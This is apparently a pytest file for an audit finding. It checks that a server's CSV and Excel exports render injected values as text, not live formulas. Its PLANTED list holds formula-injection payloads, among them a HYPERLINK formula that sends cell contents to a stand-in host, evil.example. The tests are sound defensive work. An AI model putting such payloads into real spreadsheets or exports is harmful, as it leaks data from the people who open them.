"""Finding 4: what a camera read or a kiosk sent reaches the office's spreadsheets as
text, never as a formula: the console's, the API's and `community-server export`'s
CSV and Excel files alike."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile

import pytest
from openpyxl import load_workbook

from sync.schema import Batch
from sync.server.storage.sqlite import SQLiteStorage
from tests.places import REPO
from tests.sync.server.consolekit import VIEWER, entry_fields, journal_entries, login

PLANTED = ["=1*11", '=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2-3", "@SUM(1)", "\t=1", "\r=1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _planted_entries(tmp_path) -> list[dict]:
    """Entries as a code shown to the camera, or a kiosk account, could make them."""
    items = []
    for text in PLANTED:
        e = entry_fields("refer", reasons=[text])
        e["credential"] = {"kind": "code", "masked": text, "household": text}
        e["operator"] = text
        items.append(e)
    return journal_entries(tmp_path, "gate-1", items)


def _check_csv(data: bytes, where: str) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff"))))
    cells = [c for row in rows[1:] for c in row]
    assert any(c == "'" + PLANTED[0] for c in cells), f"{where}: the planted code is not in the file"
    live = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not live, f"{where}: formula cells {live[:3]}"


def _check_xlsx(data: bytes, where: str) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet, f"{where}: a formula in the sheet XML"
    wb = load_workbook(io.BytesIO(data))
    try:
        cells = [c for row in wb.active.iter_rows(min_row=2) for c in row]
        assert not [c.value for c in cells if c.data_type == "f"], f"{where}: formula cells"
        planted = [c for c in cells if c.value in PLANTED]
        assert planted and all(c.data_type == "s" and c.quotePrefix for c in planted), where
    finally:
        wb.close()


CHECKS = {"csv": _check_csv, "xlsx": _check_xlsx}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_console_and_api_exports_are_inert(console, storage, tmp_path, fmt):
    storage.store([Batch("demo-site", "gate-1", _planted_entries(tmp_path))])
    login(console, *VIEWER)
    for url in (f"/console/entries/export.{fmt}", f"/api/entries?format={fmt}"):
        r = console.get(url)
        assert r.status_code == 200, url
        CHECKS[fmt](r.get_data(), url)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_command_is_inert(tmp_path, fmt):
    state = tmp_path / "state"
    storage = SQLiteStorage(state / "server.sqlite3")
    try:
        storage.store([Batch("demo-site", "gate-1", _planted_entries(tmp_path))])
    finally:
        storage.close()
    config = tmp_path / "server.toml"
    config.write_text(f'[server]\nstate_dir = "{state}"\n')
    out = tmp_path / f"out.{fmt}"
    r = subprocess.run([sys.executable, "-m", "sync.server.cli", "export", "--config", str(config),
                        "--format", fmt, "--output", str(out)], capture_output=True, text=True, cwd=REPO)
    assert r.returncode == 0, r.stderr
    CHECKS[fmt](out.read_bytes(), "community-server export")
